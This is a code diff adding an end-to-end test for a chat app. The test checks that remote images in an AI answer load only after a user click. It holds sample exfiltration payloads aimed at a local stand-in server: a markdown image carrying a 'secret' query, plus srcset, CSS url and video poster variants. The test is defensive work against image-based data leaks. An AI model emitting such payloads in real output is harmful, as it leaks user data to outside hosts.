@@ -252,6 +252,55 @@ describe("chat", () => {
     await context.close();
   }, 60_000);
 
+  test("an answer's images from another origin load only when the user clicks", async () => {
+    // Another origin on this machine that counts what reaches it (an exfiltration endpoint).
+    const hits: string[] = [];
+    const pixel = Buffer.from(
+      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+      "base64",
+    );
+    const outside = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      fetch: (req) => {
+        hits.push(new URL(req.url).pathname + new URL(req.url).search);
+        return new Response(pixel, { headers: { "content-type": "image/png" } });
+      },
+    });
+    try {
+      const base = `http://127.0.0.1:${outside.port}`;
+      const { context, page } = await openPage(true);
+      await page.getByTestId("workspace-item").filter({ hasText: "demo" }).click();
+      await newSession(page);
+      stack.fakeLlm.script([
+        {
+          text: [
+            `Here: ![chart](${base}/chart.png?secret=s3cr3t) `,
+            `<img srcset="${base}/srcset.png 1x"> <span style="background:url(${base}/style.png)">styled</span> `,
+            `<video poster="${base}/poster.png"></video> done`,
+          ],
+        },
+      ]);
+      await send(page, "show me the chart");
+      const answer = page.locator('[data-role="assistant"] .markdown', { hasText: "done" });
+      await answer.waitFor();
+      await idle(page);
+      const button = answer.getByTestId("remote-image");
+      expect(await button.textContent()).toBe(`Load image “chart” from 127.0.0.1:${outside.port}`);
+      await Bun.sleep(300);
+      expect(hits).toEqual([]);
+      await button.click();
+      await answer.locator(`img[src="${base}/chart.png?secret=s3cr3t"]`).waitFor();
+      await page.waitForFunction(
+        () => document.querySelector<HTMLImageElement>(".markdown img[src]")?.complete,
+      );
+      expect(hits).toEqual(["/chart.png?secret=s3cr3t"]);
+      await context.close();
+    } finally {
+      await outside.stop(true);
+    }
+  }, 60_000);
+
   test("the session list shows the workspace's sessions, newest first", async () => {
     const { context, page } = await openPage(true);
     await page.getByTestId("workspace-item").filter({ hasText: "demo" }).click();
